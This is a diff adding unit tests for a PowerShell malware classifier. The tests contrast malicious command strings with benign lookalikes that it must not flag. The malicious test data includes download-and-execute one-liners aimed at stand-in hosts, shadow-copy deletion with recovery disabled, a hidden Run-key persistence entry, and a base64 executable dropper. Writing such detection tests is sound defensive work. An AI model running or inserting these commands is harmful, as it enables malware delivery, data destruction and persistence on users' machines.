@@ -47,4 +47,18 @@ public sealed class JudgementTests
         Assert.Contains(judgement.Indicators, indicator => indicator.Kind == "registry");
         Assert.Contains(judgement.Indicators, indicator => indicator.Kind == "exclusion");
     }
+
+    [Theory]
+    [InlineData("$f=[IO.Path]::GetTempFileName()+'.exe';[IO.File]::WriteAllBytes($f,[Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA'));Start-Process $f")]
+    [InlineData("iwr http://192.0.2.1/p.exe -OutFile C:\\Users\\Public\\p.exe; C:\\Users\\Public\\p.exe")]
+    [InlineData("(New-Object Net.WebClient).DownloadFile('http://files.example/x.exe',\"$env:TEMP\\x.exe\");Start-Process \"$env:TEMP\\x.exe\"")]
+    [InlineData("vssadmin delete shadows /all /quiet; bcdedit /set {default} recoveryenabled no")]
+    [InlineData("New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value 'powershell -w hidden -f C:\\Users\\Public\\u.ps1'")]
+    public void Traits_that_are_strong_together_decide(string script) => Assert.True(Deobfuscator.Judge(script).Malicious);
+
+    [Theory]
+    [InlineData("Invoke-WebRequest https://dist.example/setup.exe -OutFile $env:TEMP\\setup.exe; Start-Process $env:TEMP\\setup.exe -Wait")]
+    [InlineData("New-ItemProperty -Path HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name Agent -Value 'C:\\Program Files\\Agent\\agent.exe'")]
+    [InlineData("vssadmin list shadows; bcdedit /enum")]
+    public void Each_of_them_alone_does_not(string script) => Assert.False(Deobfuscator.Judge(script).Malicious);
 }
